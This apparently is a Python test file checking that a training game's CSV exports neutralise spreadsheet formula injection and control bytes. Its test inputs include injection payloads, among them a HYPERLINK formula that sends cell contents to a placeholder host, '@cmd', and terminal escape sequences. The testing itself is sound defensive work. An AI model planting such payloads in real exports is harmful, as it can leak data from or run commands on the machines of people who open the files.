"""CSV files a trainer opens in a spreadsheet: no cell runs as a formula, no raw control byte."""

import csv

from game.facilitation import add_vote, new_session, take
from game.model import load_scenario_text
from game.store.csv_cells import safe_cell
from game.store.sessions import export_session

from .conftest import FIXTURES


def test_cells_that_a_spreadsheet_would_run_are_shown_as_text():
    for text in ('=HYPERLINK("http://example.invalid/?"&A1,"click")', "+SUM(1)", "-2+3", "@cmd", "\tx", "\rx"):
        assert safe_cell(text).startswith("'")
    assert safe_cell("Offer water.") == "Offer water."
    assert safe_cell("-2") == "'-2" and safe_cell(-2) == "-2" and safe_cell(3) == "3"  # numbers stay numbers
    assert safe_cell("a\x1b]8;;x\x07b\x9bc\x00") == "a\\u001b]8;;x\\u0007b\\u009bc\\u0000"
    assert safe_cell("two\nlines") == "two\nlines"


def test_the_facilitator_csv_neutralises_option_text(tmp_path, monkeypatch):
    monkeypatch.setenv("OUTREACH_HOME", str(tmp_path / "home"))
    text = (FIXTURES / "small.yaml").read_text()
    text = text.replace("Sit down beside Jo and ask how they are.", '"=HYPERLINK(\\"http://x.invalid\\",\\"ok\\")"')
    text = text.replace("Tell Jo to go home.", '"@SUM(1)"')
    scenario = load_scenario_text(text, "small.yaml")
    session = take(add_vote(new_session(scenario, 1, 1_700_000_000.0), 0, 2), scenario, 0, 1_700_000_010.0)
    paths = export_session(session, scenario, tmp_path / "out")
    with paths["csv"].open(encoding="utf-8", newline="") as file:
        texts = [cell for row in csv.DictReader(file) for key, cell in row.items() if key.startswith("option")]
    assert "'=HYPERLINK(\"http://x.invalid\",\"ok\")" in texts
    assert "'@SUM(1)" in texts
    assert not any(t[:1] in "=+-@" for t in texts if t)
